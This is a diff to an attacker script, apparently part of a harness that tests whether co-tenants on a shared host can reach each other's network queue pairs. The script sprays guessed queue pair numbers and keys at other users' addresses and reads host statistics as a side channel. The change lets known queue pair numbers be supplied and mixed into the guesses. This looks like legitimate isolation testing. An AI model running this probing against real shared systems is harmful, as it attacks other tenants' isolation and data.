@@ -1,4 +1,4 @@
-// Another user who sees no packet: attacker.ts SECONDS. Goes through queue pair numbers and keys with the addresses of others, and watches
+// Another user who sees no packet: attacker.ts SECONDS [NUMBERS]. Goes through queue pair numbers and keys with the addresses of others, and watches
 // the host's own statistics for an answer. Its last line is what it found, as JSON.
 import { randomBytes } from "node:crypto";
 import { readFileSync } from "node:fs";
@@ -23,6 +23,8 @@ const IP_PKTINFO = 8;
 const SLICE = 4096;
 const BATCH = 256;
 const PACKET = 24;
+/** The queue pair numbers at each address, when he is told: as if he had found them out. */
+const told = JSON.parse(process.argv[3] ?? "{}") as Record<string, number[]>;
 const until = performance.now() + 1000 * Number(process.argv[2]);
 const swap16 = (port: number) => ((port & 255) << 8) | (port >> 8);
 
@@ -175,7 +177,8 @@ for (let tried = 0; performance.now() < until; ) {
   const opcode = ways[Math.floor(turn / pairs.length) % ways.length]!;
   const key = keys[(["none", "none", "own", "pair"] as const)[turn % 4]!];
   const guesses = Array.from({ length: SLICE }, (_, i) => {
-    const to = (number + i) % 2 ** 24;
+    const known = told[pair.to];
+    const to = known !== undefined && i % 8 === 0 ? known[(i / 8) % known.length]! : (number + i) % 2 ** 24;
     return { opcode, number: to, psn: Math.floor(Math.random() * 2 ** 24), key: key(to) };
   });
   search(pair, guesses);
